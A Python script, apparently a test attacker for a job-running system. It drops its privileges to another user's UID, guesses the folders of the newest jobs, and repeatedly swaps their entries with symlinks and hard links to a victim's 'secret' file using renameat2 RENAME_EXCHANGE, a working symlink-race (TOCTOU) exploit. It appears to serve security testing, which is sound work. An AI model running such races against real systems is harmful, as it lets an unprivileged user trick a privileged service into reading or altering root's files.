"""A job of another user that attacks the folders which its node fills, gives, measures and removes.

Run as `python exchanging.py UID TREE VICTIM`.

As soon as it may write to a folder of the newest job below TREE it exchanges entries there with
links and with second names of root's files, as fast as the kernel lets it (renameat2,
RENAME_EXCHANGE), until it is killed. It repeats what the kernel refuses.
"""

import contextlib
import ctypes
import os
import sys

RENAME_EXCHANGE = 2
AT_FDCWD = -100
EXCHANGES = 9

_libc = ctypes.CDLL(None, use_errno=True)


def exchange(one: str, other: str) -> None:
    _libc.renameat2(AT_FDCWD, os.fsencode(one), AT_FDCWD, os.fsencode(other), RENAME_EXCHANGE)


def attack(folder: str, victim: str) -> None:
    """Exchange a folder and a file with a link to the victim's folder, with one to its file, and
    with a second name of the file.
    """
    for trap, target in (("trap-link", victim), ("trap-file", f"{victim}/secret")):
        with contextlib.suppress(OSError):
            os.symlink(target, f"{folder}/{trap}")
    with contextlib.suppress(OSError):
        os.link(f"{victim}/secret", f"{folder}/trap-hard")
    for _ in range(EXCHANGES):
        exchange(f"{folder}/folder", f"{folder}/trap-link")
    for trap in ("trap-file", "trap-hard"):
        exchange(f"{folder}/f1", f"{folder}/{trap}")


def main() -> None:
    uid, tree, victim = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    os.setgroups([])
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    print("ready", flush=True)
    number = 0
    while (
        True
    ):  # a job cannot list the folder of all jobs, but it can guess the name of the next one
        for part in ("files", "files/folder", "own"):
            for each in {number, number + 1}:
                if os.access(f"{tree}/j{each}.1/{part}", os.W_OK):
                    number = each
                    attack(f"{tree}/j{each}.1/{part}", victim)


if __name__ == "__main__":
    main()
